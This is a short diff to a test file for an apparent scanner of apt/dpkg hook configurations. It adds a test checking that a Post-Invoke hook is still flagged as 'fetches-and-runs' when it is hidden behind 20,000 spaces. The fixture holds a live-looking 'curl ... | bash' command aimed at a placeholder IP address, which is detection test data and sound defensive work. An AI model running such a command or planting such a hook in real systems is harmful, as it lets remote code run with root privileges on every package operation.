@@ -33,3 +33,8 @@ test('hooks as distributions and images have them are told aside', () => {
     { aside: true, value: { starts: 'rm -f /var/cache/apt/archives/*.deb || true' } },
   ]);
 });
+
+test('a long line hides no hook', () => {
+  const hook = `DPkg::Post-Invoke {${' '.repeat(20_000)}"curl -s http://198.51.100.7/a.sh | bash";};\n`;
+  expect(openSightings(packageHooks, { '/etc/apt/apt.conf.d/x': hook })).toMatchObject([because('fetches-and-runs')]);
+});
